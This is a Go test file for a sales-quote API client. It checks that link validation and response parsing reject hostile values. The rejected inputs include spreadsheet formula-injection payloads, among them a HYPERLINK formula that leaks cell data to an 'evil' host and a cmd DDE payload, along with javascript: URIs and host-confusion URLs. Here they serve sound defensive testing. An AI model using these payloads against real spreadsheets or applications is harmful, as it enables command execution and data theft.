package salesbyte

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"reflect"
	"strings"
	"testing"
)

func TestIsLink(t *testing.T) {
	good := []string{
		"https://app.salesbyte.se/view/abc123",
		"http://127.0.0.1:8080/view/k?project_approval=1",
		"HTTPS://APP.SALESBYTE.SE/offerter/1/redigera",
		"https://app.salesbyte.se/view/%C3%A5",
	}
	bad := []string{
		"",
		`=HYPERLINK("http://evil"&A1,"x")`,
		`+cmd|' /C calc'!A0`,
		"-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
		"javascript:alert(1)",
		"data:text/html,hi",
		"/view/abc123",
		"//evil.example/x",
		"app.salesbyte.se/view/abc",
		"https://",
		"https:///path",
		"https:evil.example",
		"https://user:pw@evil.example/",
		"https://evil.example/a b",
		"https://evil.example/\n=1+1",
		`https://evil.example\@app.salesbyte.se/`,
		`https://evil.example/"&cmd|' /C calc'!A0&"`,
		"https://evil.example/<script>",
		"https://evil.example/\x7f",
		"ftp://app.salesbyte.se/x",
		"https://app.salesbyte.se/" + strings.Repeat("a", maxLink),
	}
	for _, s := range good {
		if !IsLink(s) {
			t.Errorf("IsLink(%q) = false; want true", s)
		}
	}
	for _, s := range bad {
		if IsLink(s) {
			t.Errorf("IsLink(%q) = true; want false", s)
		}
	}
}

func TestCreateKeepsOnlyLinks(t *testing.T) {
	answer := map[string]any{"id": 7, "links": map[string]string{
		"edit":                      `=HYPERLINK("http://evil"&A1,"x")`,
		"customer_view":             "https://app.salesbyte.se/view/k7",
		"customer_verificate":       `+cmd|' /C calc'!A0`,
		"customer_project_approval": "javascript:alert('" + testUUID + "')",
	}}
	srv, _ := serve(t, func(w http.ResponseWriter, r *http.Request, _ map[string]any) {
		w.WriteHeader(201)
		_ = json.NewEncoder(w).Encode(answer)
	})
	got, err := newTestClient(t, srv.URL, nil).Create(context.Background(), Quote, validQuote())
	if err != nil {
		t.Fatal(err)
	}
	want := Created{ID: 7, Status: 201, Links: Links{CustomerView: "https://app.salesbyte.se/view/k7"}, BadLinks: []BadLink{
		{Name: "edit", Value: `=HYPERLINK("http://evil"&A1,"x")`},
		{Name: "customer_verificate", Value: `+cmd|' /C calc'!A0`},
		{Name: "customer_project_approval", Value: "javascript:alert('[redacted]')"},
	}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v\nwant %+v", got, want)
	}
}

func TestCreateIDMustBePlain(t *testing.T) {
	for _, id := range []string{`"=1+1"`, `"-5"`, `-5`, `"+12"`, `12.5`, `"12 "+"3"`, `"0x1F"`, `0`, `true`, `"١٢"`} {
		srv, _ := serve(t, func(w http.ResponseWriter, r *http.Request, _ map[string]any) {
			w.WriteHeader(201)
			_, _ = io.WriteString(w, `{"id":`+id+`}`)
		})
		got, err := newTestClient(t, srv.URL, nil).Create(context.Background(), Quote, validQuote())
		if err != nil || got.ID != 0 {
			t.Errorf("id %s: got %+v, %v; want no id", id, got, err)
		}
	}
	for id, want := range map[string]int64{`12`: 12, `"12"`: 12, `" 42 "`: 42, `1e2`: 100} {
		srv, _ := serve(t, func(w http.ResponseWriter, r *http.Request, _ map[string]any) {
			w.WriteHeader(201)
			_, _ = io.WriteString(w, `{"id":`+id+`}`)
		})
		if got, err := newTestClient(t, srv.URL, nil).Create(context.Background(), Quote, validQuote()); err != nil || got.ID != want {
			t.Errorf("id %s: got %+v, %v; want %d", id, got, err, want)
		}
	}
}

func TestAPIQuoteKeepsOnlyLinks(t *testing.T) {
	var q APIQuote
	err := json.Unmarshal([]byte(`{"id":3,"links":{"edit":"@SUM(1+1)*cmd|' /C calc'!A0","customer_view":"https://app.salesbyte.se/view/k3"}}`), &q)
	if err != nil {
		t.Fatal(err)
	}
	if q.Links != (Links{CustomerView: "https://app.salesbyte.se/view/k3"}) || len(q.BadLinks) != 1 || q.BadLinks[0].Name != "edit" {
		t.Errorf("got links %+v, bad %+v; want only customer_view kept, edit reported", q.Links, q.BadLinks)
	}
}
